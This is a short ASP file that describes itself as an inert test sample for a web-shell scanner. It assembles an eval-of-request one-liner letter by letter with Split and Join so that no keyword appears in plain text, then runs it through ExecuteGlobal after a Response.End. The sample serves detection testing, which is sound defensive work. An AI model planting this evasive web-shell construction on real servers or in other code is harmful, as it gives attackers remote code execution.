<%
' synthetic test sample for breachscan: the words of an eval-of-request one-liner written a
' letter at a time between separators, split and joined back apart, and run. Inert:
' Response.End first.
Response.End
Dim p1, p2, k1, k2, code
p1 = Split("e|v|a|l", "|")
p2 = Split("r|e|q|u|e|s|t", "|")
k1 = Join(p1, "")
k2 = Join(p2, "")
code = k1 & "(" & k2 & "(""z""))"
ExecuteGlobal code
%>
